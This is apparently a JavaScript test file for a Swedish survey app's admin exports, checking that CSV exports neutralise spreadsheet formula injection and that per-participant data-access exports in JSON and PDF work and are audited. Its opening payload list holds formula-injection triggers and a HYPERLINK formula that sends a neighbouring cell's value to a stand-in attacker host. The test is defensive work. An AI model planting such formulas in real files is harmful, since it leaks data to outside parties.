// injection triggers and the HYPERLINK that sends a cell's neighbour away.
const FORMULAS = ['=1+1', '+1+1', '-1+1', '@SUM(1+1)', '\t=1+1', '\r=1+1',
	'=HYPERLINK("http://evil.example/?d="&A1,"Klicka")'];

test('export: formula answers (= + - @ tab CR, HYPERLINK) get a leading \' in both answer CSVs (with free text)', async () => {
	const sid = L.studyId();
	const pay = FORMULAS.map((v, i) => `(${i + 1}, ${L.lit(v)})`).join(', ');
	L.sql(`WITH pay(k, v) AS (VALUES ${pay}),
		pairs AS (SELECT r.response_id, r.instrument_id, r.version, ii.item_id,
			row_number() OVER (ORDER BY r.response_id DESC, ii.position) AS k
			FROM uppfolj.response r JOIN uppfolj.participant p USING (participant_id)
			JOIN uppfolj.instrument_item ii USING (instrument_id, version)
			WHERE p.study_id = ${sid} AND r.status = 'submitted' AND ii.item_type = 'text')
		INSERT INTO uppfolj.answer (response_id, instrument_id, version, item_id, value_text)
		SELECT p.response_id, p.instrument_id, p.version, p.item_id, pay.v FROM pairs p JOIN pay USING (k)
		ON CONFLICT (response_id, item_id) DO UPDATE SET value_text = excluded.value_text,
			dont_know = false`);
	const e = await L.loggedIn(evaluator);
	for (const file of ['svar-lang.csv', 'svar-bred.csv']) {
		const r = await e.post('/admin/export/' + file, { fritext: 'ja' });
		assert.equal(r.status, 200);
		writeFileSync(join(L.env.artifacts, 'formula-' + file), r.buf);
		const cells = new Set(L.parseCsv(r.text).flat());
		for (const f of FORMULAS) {
			assert.ok(cells.has("'" + f), `${file}: ${JSON.stringify(f)} with a leading '`);
			assert.ok(!cells.has(f), `${file}: ${JSON.stringify(f)} never bare`);
		}
		// No cell starts a formula unless it is a plain number.
		const bad = [...cells].filter((c) => /^[=+\-@\t\r]/.test(c) &&
			!/^[-+]?[0-9]+([.,][0-9]+)?$/.test(c));
		assert.deepEqual(bad, [], file);
	}
	const page = await e.get('/admin/export');
	assert.match(page.text, /börjar med = \+ - @, ett tabbsteg eller en radbrytning \(CR\) får en apostrof/, 'the export page states the rule');
});

test('access request: one participant\'s own answers as JSON', async () => {
	const e = await L.loggedIn(evaluator);
	const [panel, n] = L.sql(`SELECT p.panel_id, count(*) FROM uppfolj.participant p
		JOIN uppfolj.response r USING (participant_id) JOIN uppfolj.answer a USING (response_id)
		WHERE p.study_id = ${L.studyId()} GROUP BY p.panel_id ORDER BY p.panel_id LIMIT 1`)[0];
	const before = L.auditCount('export.access', 'web:' + evaluator.name);
	const r = await e.post('/admin/begaran/registerutdrag.json', { panel });
	assert.equal(r.status, 200, r.text.slice(0, 300));
	assert.match(r.headers.get('content-type'), /^application\/json/);
	assert.equal(r.headers.get('content-disposition'), `attachment; filename="registerutdrag-${panel}.json"`);
	const doc = JSON.parse(r.text);
	assert.ok(r.text.includes(panel));
	assert.ok(JSON.stringify(doc).length > 100);
	assert.ok(Number(n) > 0);
	assert.equal(L.auditCount('export.access', 'web:' + evaluator.name), before + 1);
	const none = await e.post('/admin/begaran/registerutdrag.json', { panel: 'B-ZZZZZZ' });
	assert.equal(none.status, 404);
	assert.match(none.text, /Ingen deltagare/);
	assert.equal(none.headers.get('content-disposition'), null, 'a refusal is a page, not a download');
});

test('access request as PDF: the same data, readable, in Swedish', async () => {
	const e = await L.loggedIn(evaluator);
	const page = await e.get('/admin/export');
	assert.match(page.text, /action="\/admin\/begaran\/registerutdrag\.pdf"/);
	assert.match(page.text, /formaction="\/admin\/begaran\/registerutdrag\.json"/);
	const panel = L.sql1(`SELECT p.panel_id FROM uppfolj.participant p
		JOIN uppfolj.response r USING (participant_id)
		WHERE p.study_id = ${L.studyId()} AND r.status = 'submitted'
		ORDER BY p.panel_id LIMIT 1`);
	const json = JSON.parse((await e.post('/admin/begaran/registerutdrag.json', { panel })).text);
	const before = L.auditCount('export.access', 'web:' + evaluator.name);
	const r = await e.post('/admin/begaran/registerutdrag.pdf', { panel });
	assert.equal(r.status, 200, r.text.slice(0, 300));
	assert.equal(r.headers.get('content-type'), 'application/pdf');
	assert.equal(r.headers.get('content-disposition'), `attachment; filename="registerutdrag-${panel}.pdf"`);
	assert.equal(r.buf.subarray(0, 5).toString('latin1'), '%PDF-');
	assert.equal(L.auditCount('export.access', 'web:' + evaluator.name), before + 1);
	// Page footers out, lines joined: every wave, question and answer of
	// the JSON form is in the text.
	const text = L.pdfText(r.buf, `registerutdrag-${panel}.pdf`)
		.split('\n').filter((l) => !/Registerutdrag för deltagare .* sida \d+/.test(l)).join(' ')
		.replace(/\s+/g, ' ');
	const norm = (s) => s.replace(/\s+/g, ' ').trim();
	assert.ok(text.includes(`Deltagare: ${panel}`));
	assert.ok(text.includes('Grupp: '));
	let checked = 0;
	for (const w of json.waves) {
		assert.ok(text.includes(`Omgång ${w.months} månader`), `wave ${w.months}`);
		for (const a of w.answers) {
			assert.ok(text.includes(norm(a.question)), a.question);
			assert.ok(text.includes(norm(a.answer)), a.answer);
			checked++;
		}
	}
	assert.ok(checked > 5, `${checked} answers checked`);
	const none = await e.post('/admin/begaran/registerutdrag.pdf', { panel: 'B-ZZZZZZ' });
	assert.equal(none.status, 404);
	assert.equal(none.headers.get('content-disposition'), null);
});
